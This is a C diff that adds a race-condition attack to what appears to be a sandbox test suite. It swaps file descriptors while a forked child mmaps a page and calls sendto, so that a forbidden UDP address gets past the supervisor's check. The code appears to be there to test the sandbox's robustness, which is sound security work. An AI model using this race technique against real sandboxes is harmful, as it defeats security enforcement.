@@ -21,6 +21,7 @@
 #include <sys/mman.h>
 #include <sys/shm.h>
 #include <sys/socket.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 enum { PAGE = 4096, PAGES_AROUND = 4096 };
@@ -261,8 +262,86 @@ static void run_search(const struct attack *attack)
 	fprintf(stderr, "%lu tries, %lu copies found\n", tries, foreign_hits);
 }
 
+/* Far more than what is mapped: full of the forbidden address, wherever one looks. */
+enum { FILE_SIZE = 1 << 24, LOWEST_NUMBER = 3, NUMBERS = 8 };
+
+static int file_of(const struct sockaddr_in *address, size_t size)
+{
+	int fd = (int)need(memfd_create("address", 0), "memfd_create");
+	need(ftruncate(fd, (off_t)size), "ftruncate");
+	uint64_t *words = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	if (words == MAP_FAILED) {
+		failed("mmap");
+	}
+	for (size_t i = 0; i < size / sizeof(*words); i++) {
+		memcpy(&words[i], address, sizeof(*words));
+	}
+	munmap(words, size);
+	return fd;
+}
+
+static int forbidden_file, allowed_file;
+
+/* Puts the forbidden file behind whatever number is opened next. */
+static void *turn_numbers(void *nothing)
+{
+	while (!is_ended) {
+		for (int i = 0; i < NUMBERS; i++) {
+			dup2(forbidden_file, LOWEST_NUMBER + i);
+		}
+		for (int i = 0; i < NUMBERS; i++) {
+			close(LOWEST_NUMBER + i);
+		}
+	}
+	return nothing;
+}
+
+/*
+ * In a process that has nothing mapped yet: natively for the sender's own page, else
+ * for those that a supervisor maps before the first address is sent.
+ */
+static void send_first(int fd)
+{
+	pthread_t thread;
+	pthread_create(&thread, NULL, turn_numbers, NULL);
+	usleep(100);
+	int number = dup(allowed_file);
+	void *page = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, number, 0);
+	if (page != MAP_FAILED) {
+		(void)sendto(
+			fd, "from the attack", 15, MSG_DONTWAIT, page, sizeof(allowed));
+	}
+	_exit(0);
+}
+
+static void run_descriptor(const struct attack *attack)
+{
+	enum { SOCKET = 100, FORBIDDEN, ALLOWED };
+	(void)attack;
+	allowed = address_of(arena.udp_allowed);
+	forbidden = address_of(arena.udp_port);
+	dup2(socket(AF_INET, SOCK_DGRAM, 0), SOCKET);
+	dup2(file_of(&forbidden, FILE_SIZE), FORBIDDEN);
+	dup2(file_of(&allowed, PAGE), ALLOWED);
+	forbidden_file = FORBIDDEN;
+	allowed_file = ALLOWED;
+	for (; time_is_left(); tries++) {
+		pid_t child = fork();
+		if (child == 0) {
+			send_first(SOCKET);
+		}
+		waitpid(child, NULL, 0);
+	}
+	fprintf(stderr, "%lu tries\n", tries);
+}
+
 void page_race_attacks(void)
 {
+	struct attack turning = {.effect = EFFECT_REACHED,
+		.flags = ATTACK_RACE,
+		.syscalls = "sendto",
+		.run = run_descriptor};
+	attack_add(&turning, "race_pages/descriptor");
 	for (size_t i = 0; i < sizeof(changes) / sizeof(changes[0]); i++) {
 		struct attack attack = {.effect = EFFECT_REACHED,
 			.flags = ATTACK_RACE,
